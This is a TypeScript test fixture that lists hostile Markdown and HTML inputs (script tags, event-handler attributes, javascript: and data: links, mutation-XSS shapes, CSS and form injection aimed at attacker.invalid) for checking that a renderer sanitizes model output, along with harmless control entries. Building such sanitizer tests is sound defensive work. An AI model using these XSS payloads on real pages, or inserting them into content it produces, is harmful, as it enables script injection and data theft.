/**
 * Hostile model outputs for test/e2e/markdown.spec.ts. Every payload that could run tries to set
 * window.__cubbyPwned or open a dialog; every payload that could fetch points at a host that does
 * not exist (attacker.invalid) or at /pwned on the page's own server, which the spec watches.
 * The last entries are harmless controls that must still render as links, code and tables.
 */
const PWN = "window.__cubbyPwned='x'";
const LONG = 'A'.repeat(60_000);

export const HOSTILE_CORPUS: readonly string[] = [
  // Script in every spelling.
  `<script>${PWN}</script>`,
  `Hello <script src="https://attacker.invalid/x.js"></script> world`,
  `<SCRIPT>${PWN}</SCRIPT>\n\n<scr<script>ipt>${PWN}</script>`,
  `<script type="module">import "https://attacker.invalid/m.js"</script>`,
  // Event handler attributes.
  `<img src=x onerror="${PWN}">`,
  `<img src="/pwned/img.png" onerror=alert(1)>`,
  `<body onload=alert(1)>`,
  `<svg onload="${PWN}"><circle r=10 /></svg>`,
  `<svg><script>${PWN}</script><image href="https://attacker.invalid/svg.png" /></svg>`,
  `<details open ontoggle="${PWN}">x</details>`,
  `<input autofocus onfocus="${PWN}">`,
  `<div onmouseover="${PWN}">hover me</div>`,
  `<a href="javascript:alert(1)">raw html link</a>`,
  // Markdown links to hostile schemes, in every encoding the parser decodes.
  `[click](javascript:alert(1))`,
  `[click](JaVaScRiPt:alert(1))`,
  `[click](javascript&#58;alert(1))`,
  `[click](javascript&colon;alert(1))`,
  `[click](java%0Ascript:alert(1))`,
  `[click](  javascript:alert(1)  )`,
  `[click](<javascript:alert(1)>)`,
  `[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)`,
  `[click](vbscript:msgbox(1))`,
  `[click](file:///etc/passwd)`,
  `[click](/pwned/relative)`,
  `[click](//attacker.invalid/protocol-relative)`,
  `[click](#fragment)`,
  `[click](https://user:pass@attacker.invalid/creds)`,
  `<javascript:alert(1)>`,
  `<vbscript:alert(1)>`,
  `<mailto:someone@attacker.invalid>`,
  `someone@attacker.invalid`,
  // Reference-style links and images with hostile definitions.
  `[ref link][r1] and ![ref image][r2]\n\n[r1]: javascript:alert(1)\n[r2]: https://attacker.invalid/ref.png`,
  `[ok ref][r3]\n\n[r3]: https://example.com/ref "Title \\"><script>${PWN}</script>"`,
  // Remote and inline images: Markdown and HTML.
  `![remote](https://attacker.invalid/track.png)`,
  `![](https://attacker.invalid/no-alt.png)`,
  `![pixel](data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg==)`,
  `![svg](data:image/svg+xml;base64,PHN2ZyB4bWxucz0iaHR0cDovL3d3dy53My5vcmcvMjAwMC9zdmciIG9ubG9hZD0iYWxlcnQoMSkiLz4=)`,
  `![own](/pwned/own.png)`,
  `[![nested image](https://attacker.invalid/n.png)](https://example.com/nested)`,
  `<img src="https://attacker.invalid/html.png">`,
  `<picture><source srcset="https://attacker.invalid/s.png"><img src="/pwned/p.png"></picture>`,
  `<video poster="https://attacker.invalid/v.png" src="https://attacker.invalid/v.mp4"></video>`,
  // Frames and plugins.
  `<iframe src="https://attacker.invalid/frame"></iframe>`,
  `<iframe srcdoc="<script>parent.${PWN}</script>"></iframe>`,
  `<object data="https://attacker.invalid/o.swf"></object><embed src="https://attacker.invalid/e.swf">`,
  // CSS injection.
  `<style>@import url(https://attacker.invalid/i.css); body{background:url(/pwned/bg.png)}</style>`,
  `<link rel="stylesheet" href="https://attacker.invalid/l.css">`,
  `<div style="background-image:url(https://attacker.invalid/s.png)">styled</div>`,
  `<span style="position:fixed;inset:0;background:red">overlay</span>`,
  // Forms, base, refresh.
  `<form action="https://attacker.invalid/f"><input name=q value=secret><button>Send</button></form>`,
  `<base href="https://attacker.invalid/">\n\n[relative after base](pwned/after-base)`,
  `<meta http-equiv="refresh" content="0; url=https://attacker.invalid/refresh">`,
  // Entities that decode into markup, and mutation-XSS shapes.
  `&lt;script&gt;${PWN}&lt;/script&gt; &#60;img src=x onerror=alert(1)&#62; &#x3C;iframe&#x3E;`,
  `<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>`,
  `<template><script>${PWN}</script></template>`,
  // Code blocks with hostile info strings and content.
  '```"><img src=x onerror=alert(1)>\n<script>' + PWN + '</script>\n```',
  '```html\n<img src="https://attacker.invalid/code.png" onerror="alert(1)">\n```',
  '~~~javascript onload=alert(1)\nfetch("https://attacker.invalid/")\n~~~',
  // Footnotes, tables and very long lines.
  `Claim[^1]\n\n[^1]: [source](javascript:alert(1))`,
  `| a | <img src=x onerror=alert(1)> |\n|:-:|--:|\n| [x](javascript:alert(1)) | ![t](https://attacker.invalid/t.png) |`,
  `${LONG} [end](https://example.com/after-long)`,
  '```\n' + LONG + '\n```',
  // Controls: these must still work.
  `[a safe link](https://example.com/safe)`,
  `<https://example.com/autolink> and https://example.com/literal and www.example.com`,
  '```ts\nconst answer: number = 42;\n```',
  '### Starts deep\n\ntext\n\n# Then top\n\n##### Then skips\n\n- [x] done\n- [ ] not yet',
];

/** The URLs the controls and hostile entries may legitimately offer (http/https, no credentials). */
export const OFFERED_URLS: readonly string[] = [
  'https://example.com/ref',
  'https://attacker.invalid/ref.png',
  'https://attacker.invalid/track.png',
  'https://attacker.invalid/no-alt.png',
  'https://example.com/nested',
  'https://attacker.invalid/t.png',
  'https://example.com/after-long',
  'https://example.com/safe',
  'https://example.com/autolink',
  'https://example.com/literal',
  'http://www.example.com/',
];
